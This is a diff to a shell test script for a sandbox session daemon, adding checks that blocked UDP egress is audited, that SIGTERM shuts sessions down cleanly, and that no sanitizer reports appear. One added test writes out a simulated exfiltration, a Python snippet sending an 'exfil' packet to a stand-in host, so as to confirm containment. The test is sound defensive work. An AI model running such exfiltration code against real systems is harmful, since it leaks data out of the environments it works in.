@@ -28,7 +28,7 @@ for f in "$CTL" "$SESSIOND"; do
 		exit 1
 	fi
 done
-tap_plan 63
+tap_plan 67
 
 NAME=s$(od -An -N3 -tx1 /dev/urandom | tr -d ' \n')
 T=$(mktemp -d /tmp/enclave-sessiond-test.XXXXXX)
@@ -164,6 +164,13 @@ done
 is "no secret in the session, its audit, the logs" 0 "$leak"
 is "the workload's environment holds nothing secret" "" \
 	"$(js '[l for l in d["stdout"].splitlines() if "exfil" in l and ("TOKEN" in l or "KEY" in l or "SECRET" in l)] and "leak" or ""' "$T/last")"
+
+run python 'import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.sendto(b"exfil", ("198.18.1.66", 9999))'
+api GET "/v1/sessions/$(js 'd["id"]' "$T/last")/audit" >/dev/null
+is "UDP past the proxy: dropped by the table, audited from NFLOG" "198.18.1.66:9999:udp:protocol_not_allowed" \
+	"$(js '" ".join("%s:%s:%s:%s" % (e["data"]["host"], e["data"].get("port"), e["data"]["proto"], e["data"]["reason"]) for e in d["events"] if e["type"]=="egress_denied")')"
 
 # --- limits ---------------------------------------------------------------
 start=$(date +%s%N)
@@ -322,5 +329,20 @@ EOF
 out=$("$CTL" audit verify "$T/tampered.log" 2>&1)
 is "audit verify: a tampered line is found (exit 1, line 3)" "1 1" \
 	"$? $(echo "$out" | grep -c 'line 3')"
+
+# --- a clean stop ------------------------------------------------------------
+body sh 'sleep 60' '' '{"wait": false}'
+api POST /v1/sessions "$T/req" >/dev/null
+STOP_ID=$(js 'd["id"]')
+SPID=$(cat "$D/sessiond.pid")
+kill -TERM "$SPID"
+for _ in $(seq 150); do kill -0 "$SPID" 2>/dev/null || break; sleep 0.1; done
+is "SIGTERM: sessiond ends its sessions and exits" "gone killed" \
+	"$(kill -0 "$SPID" 2>/dev/null && echo running || echo gone) $(grep -c "$STOP_ID.*killed" "$D/sessiond.log" | sed 's/^1$/killed/')"
+is "SIGTERM: nothing left behind" "" \
+	"$(ls /run/netns | grep -E "^${NAME}s[0-9]+$"; ls "$D/state/sessions"; test -e "$S" && echo "socket left")"
+# With --enable-asan/--enable-ubsan the daemon's report lands in its log.
+is "no sanitizer report in sessiond's log" "" \
+	"$(grep -E 'AddressSanitizer|LeakSanitizer|runtime error:' "$D/sessiond.log" | head -5)"
 
 tap_done
